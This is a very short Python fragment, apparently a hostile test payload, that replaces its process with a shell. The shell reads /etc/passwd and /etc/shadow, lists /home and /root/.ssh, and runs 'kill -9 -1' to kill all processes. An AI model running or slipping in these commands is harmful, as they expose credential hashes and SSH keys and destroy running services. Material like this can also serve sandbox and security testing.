"""Becomes a shell."""

os.execv("/bin/sh", ["sh", "-c", "cat /etc/passwd /etc/shadow; ls /home /root/.ssh; id -u; kill -9 -1; exit 5"])
